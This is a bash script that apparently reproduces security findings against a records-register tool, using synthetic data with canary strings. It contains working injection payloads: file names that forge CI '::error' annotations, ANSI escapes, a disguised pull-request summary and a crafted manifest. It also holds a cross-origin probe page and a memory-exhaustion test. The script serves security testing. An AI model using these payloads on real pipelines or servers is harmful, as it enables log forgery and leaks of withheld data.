#!/bin/bash
# Round 4, part B: keeper-facing features. Usage: repro.sh /path/to/register
# Prints `LEAK <name>` when a finding reproduces, `ok <name>` when it does not.
# Works in a fresh folder under /tmp/attack4/b/; starts `register serve` on
# ports 18791/18792 (killed at the end) and, for B6 only, a static HTTP server
# on 18793 and headless Chromium (skipped when chromium is missing).
R=${1:?usage: $0 /path/to/register}
R=$(readlink -f "$R")
W=$(mkdir -p /tmp/attack4/b && mktemp -d /tmp/attack4/b/repro.XXXXXX)
cd "$W" || exit 2
NOW=2024-06-01

# A minimal register: PUB-1 (public, declares Zebedee Canarybname, 01632 960111,
# zeb.canaryb@example.net; a withheld passage CANARYB1), HID-7 (TLP:AMBER,
# declares Wolfgang Hiddenperson), PUB-2 (folder record with a public and a
# withheld attachment), a withheld interim decision on PUB-1.
site() { # site DIR
  local d=$1; mkdir -p "$d/requests/PUB-2" "$d/decisions"
  cat > "$d/site.toml" <<'EOF'
title = "Test register"
base_url = "https://reg.example.org"
description = "d"
owner = "o"
language = "en-GB"
theme = "default"
EOF
  cat > "$d/requests/PUB-1.md" <<'EOF'
+++
id = "PUB-1"
type = "sc-modification"
title = "Public request one"
classification = "TLP:CLEAR"
submitted = 2024-01-10
reasons = ["lessons-learned"]

[proposer]
organisation = "Org A"
name = "Zebedee Canarybname"
phone = "01632 960111"
email = "zeb.canaryb@example.net"

[[history]]
date = 2024-01-10
stage = "submitted"
+++

## Issue

Public issue text.

<!-- TLP:AMBER -->
CANARYB1 withheld passage about the attack path.
<!-- /TLP -->
EOF
  cat > "$d/requests/HID-7.md" <<'EOF'
+++
id = "HID-7"
type = "sc-modification"
title = "CANARYB2 secret title"
classification = "TLP:AMBER"
submitted = 2024-01-11
reasons = ["lessons-learned"]

[proposer]
organisation = "CANARYB3 Org"
name = "Wolfgang Hiddenperson"
phone = "01632 960222"
email = "wolf.hidden@example.org"

[[history]]
date = 2024-01-11
stage = "submitted"
+++

## Issue

CANARYB4 hidden body.
EOF
  cat > "$d/requests/PUB-2/index.md" <<'EOF'
+++
id = "PUB-2"
type = "sc-modification"
title = "Public request two"
classification = "TLP:CLEAR"
submitted = 2024-01-12
reasons = ["lessons-learned"]

[proposer]
organisation = "Org C"

[[attachments]]
file = "pub-notes.txt"
title = "Public notes"
classification = "TLP:CLEAR"

[[attachments]]
file = "canaryb5-secret.txt"
title = "CANARYB6 secret attachment title"
classification = "TLP:AMBER"

[[history]]
date = 2024-01-12
stage = "submitted"
+++

## Issue

Two.
EOF
  echo "public notes" > "$d/requests/PUB-2/pub-notes.txt"
  echo "CANARYB7 secret attachment body" > "$d/requests/PUB-2/canaryb5-secret.txt"
  cat > "$d/decisions/PUB-1-interim-1.md" <<'EOF'
+++
request = "PUB-1"
classification = "TLP:AMBER"
date = 2024-02-01
kind = "interim"
outcome = "progressed"
+++

## Summary

CANARYB8 withheld decision text.
EOF
}
say() { if [ "$1" = yes ]; then echo "LEAK $2"; else echo "ok $2"; fi; }

# --- B1: declared personal data echoed verbatim in check/build messages -----
site b1
sed -i 's/^reasons = \["lessons-learned"\]/reasons = ["lessons-learned"]\ndevices = ["Zebedee Canarybname"]\naffected_scs = ["zeb.canaryb@example.net"]/' b1/requests/HID-7.md
sed -i 's/^submitted = 2024-01-12/submitted = 2024-01-12\nrelated = ["01632 960111"]/' b1/requests/PUB-2/index.md
"$R" check --content b1 --now $NOW --format github > b1.out 2>&1
grep -qE 'Zebedee Canarybname|zeb\.canaryb@example\.net|01632 960111' b1.out && say yes B1-personal-data-in-messages || say no B1-personal-data-in-messages
"$R" build --content b1 --output b1pub --now $NOW > b1b.out 2>&1
grep -qE 'Zebedee Canarybname|zeb\.canaryb@example\.net|01632 960111' b1b.out && say yes B1-personal-data-in-build-log || say no B1-personal-data-in-build-log

# --- B2: withheld values echoed in messages --------------------------------
site b2a   # a public title names a withheld request: the message quotes its id
sed -i 's/^title = "Public request one"/title = "Public request one, see HID-7"/' b2a/requests/PUB-1.md
"$R" check --content b2a --now $NOW > b2a.out 2>&1
grep -q '`HID-7`' b2a.out && say yes B2a-withheld-id-quoted || say no B2a-withheld-id-quoted
site b2b   # a withheld record's invalid values are quoted
sed -i 's/^reasons = \["lessons-learned"\]/reasons = ["lessons-learned"]\ndevices = ["CANARYB13DEV"]/' b2b/requests/HID-7.md
"$R" check --content b2b --now $NOW > b2b.out 2>&1
grep -q 'CANARYB13DEV' b2b.out && say yes B2b-withheld-record-value-quoted || say no B2b-withheld-record-value-quoted
site b2c   # the date of a withheld (RED) final decision is quoted in a help line
cat > b2c/decisions/PUB-1-final.md <<'EOF'
+++
request = "PUB-1"
classification = "TLP:RED"
date = 2024-04-17
kind = "final"
outcome = "rejected"
+++
x
EOF
"$R" check --content b2c --now $NOW > b2c.out 2>&1
grep -q '2024-04-17' b2c.out && say yes B2c-withheld-decision-date-quoted || say no B2c-withheld-decision-date-quoted

# --- B3: content file names are printed raw: CI log line injection ----------
site b3
mv b3/requests/HID-7.md "b3/requests/HID-7"$'\n'"::error title=Injected::fake annotation"$'\n'"x.md"
"$R" check --content b3 --now $NOW --withheld > b3.out 2>&1; rc=$?
grep -q '^::error title=Injected::' b3.out && say yes "B3-filename-injects-ci-line(exit $rc)" || say no B3-filename-injects-ci-line
site b3g
cp b3g/requests/PUB-2/pub-notes.txt "b3g/requests/PUB-2/x"$'\e[2K\e[1A'"y.txt"
"$R" check --content b3g --now $NOW --format github > b3g.out 2>&1
grep -q $'\e\\[2K' b3g.out && say yes B3-escape-codes-in-github-format || say no B3-escape-codes-in-github-format

# B3 applied to the pull-request summary the `init` workflow writes: a
# withheld record whose file name carries a fake diff, a code fence and `<!--`
# hides the real diff ("becomes public: request HID-7") from the summary.
site b3s; "$R" build --content b3s --output b3sbase --now $NOW > /dev/null 2>&1
sed -i 's/^classification = "TLP:AMBER"/classification = "TLP:CLEAR"/; s/CANARYB2 secret title/Now public/; s/CANARYB3 Org/Org/; s/CANARYB4 hidden body./Body./' b3s/requests/HID-7.md
cat > "b3s/requests/Z"$'\n'"publication diff against the base branch:"$'\n'"  nothing changes in the public view"$'\n'"\`\`\`"$'\n'"<!--.md" <<'EOF'
+++
id = "ZZ-1"
type = "sc-modification"
classification = "TLP:AMBER"
submitted = 2024-01-11
reasons = ["lessons-learned"]
[proposer]
organisation = "O"
[[history]]
date = 2024-01-11
stage = "submitted"
+++
EOF
"$R" check --content b3s --now $NOW --since b3sbase > b3s.diff.txt 2>/dev/null; rc=$?
{ echo '### What this pull request publishes'; echo '```'; sed -n '/^publication diff/,$p' b3s.diff.txt; echo '```'; } > b3s.summary.md
# the summary's first fenced block says "nothing changes", and the real diff follows a `<!--` line
[ $rc = 0 ] && sed -n '3,4p' b3s.summary.md | grep -q 'nothing changes' && grep -q '^<!--' b3s.summary.md && grep -q 'request HID-7' b3s.summary.md \
  && say yes "B3-pr-summary-forged(exit $rc)" || say no B3-pr-summary-forged

# --- B4: a crafted previous manifest injects lines into the diff -----------
site b4
mkdir -p b4old
python3 -c 'import json;print(json.dumps({"manifest_version":2,"build_date":"2024-01-01","requests":{"PUB-9\n::error::injected from manifest\n  nothing changes in the public view\u001b[8m":{"fields":"0","passages":{}}}}))' > b4old/register-manifest.json
"$R" check --content b4 --now $NOW --since b4old > b4.out 2>&1
grep -q '^::error::injected from manifest' b4.out && say yes B4-manifest-injects-ci-line || say no B4-manifest-injects-ci-line

# --- B5: the CI workflow `init` writes prints withheld ids and names --------
"$R" init b5 > /dev/null 2>&1
if grep -q 'register check --withheld' b5/.github/workflows/register.yml; then
  rm -rf b5/content; site b5/content
  (cd b5 && "$R" check --withheld --now $NOW > ../b5.out 2>&1)
  grep -qE 'HID-7|canaryb5-secret' b5.out && say yes B5-init-workflow-logs-withheld-listing || say no B5-init-workflow-logs-withheld-listing
else say no B5-init-workflow-logs-withheld-listing; fi

# --- B6: serve --withheld answers a cross-origin existence probe -----------
if command -v chromium >/dev/null 2>&1; then
  site b6
  "$R" serve --content b6 --port 18792 --now $NOW --withheld > b6.serve.log 2>&1 & SP=$!
  mkdir b6web; cat > b6web/p.html <<'EOF'
<!doctype html><pre id=out></pre><script>
const r={};let n=0;
for (const id of ['HID-7','NOPE-9']){n++;const l=document.createElement('link');l.rel='prefetch';
l.href='http://127.0.0.1:18792/requests/'+id+'/';l.onload=()=>{r[id]='load';if(--n==0)done()};
l.onerror=()=>{r[id]='error';if(--n==0)done()};document.head.appendChild(l);}
function done(){document.getElementById('out').textContent=JSON.stringify(r);}
</script>
EOF
  (cd b6web && exec python3 -m http.server 18793 --bind 127.0.0.1 > ../b6.http.log 2>&1) & HP=$!
  sleep 2
  timeout 40 chromium --headless --no-sandbox --disable-gpu --virtual-time-budget=6000 --dump-dom http://localhost:18793/p.html > b6.dom 2>/dev/null
  kill $SP $HP 2>/dev/null; wait $SP $HP 2>/dev/null
  grep -q '"HID-7":"load"' b6.dom && grep -q '"NOPE-9":"error"' b6.dom && say yes B6-cross-origin-existence-oracle || say no B6-cross-origin-existence-oracle
else echo "skip B6-cross-origin-existence-oracle (no chromium)"; fi

# --- B7: output_keep paths are not screened; a dropped keep lingers --------
site b7
"$R" build --content b7 --output b7pub --now $NOW > /dev/null 2>&1
mkdir -p b7pub/HID-7; echo x > b7pub/HID-7/notes.pdf; echo x > b7pub/Wolfgang-Hiddenperson.pdf
cp b7/site.toml b7.site.toml
echo 'output_keep = ["HID-7/notes.pdf", "Wolfgang-Hiddenperson.pdf"]' >> b7/site.toml
"$R" build --content b7 --output b7pub --now $NOW > /dev/null 2>&1; rc=$?
[ $rc = 0 ] && [ -e b7pub/HID-7/notes.pdf ] && [ -e b7pub/Wolfgang-Hiddenperson.pdf ] && say yes "B7-output_keep-names-unscreened" || say no B7-output_keep-names-unscreened
cp b7.site.toml b7/site.toml
"$R" build --content b7 --output b7pub --now $NOW > /dev/null 2>&1
[ -d b7pub/HID-7 ] && say yes B7-dropped-keep-folder-lingers || say no B7-dropped-keep-folder-lingers

# --- B8: --since reads any size of manifest into memory --------------------
site b8; mkdir b8old; truncate -s 300M b8old/register-manifest.json
/usr/bin/time -f '%M' -o b8.time timeout 20 "$R" check --content b8 --now $NOW --since b8old > /dev/null 2>&1
kb=$(tail -1 b8.time); rm -f b8old/register-manifest.json
[ "${kb:-0}" -gt 250000 ] 2>/dev/null && say yes "B8-unbounded-manifest-read(${kb}KB RSS for a 300MB file)" || say no "B8-unbounded-manifest-read(${kb}KB)"

echo "work folder: $W"
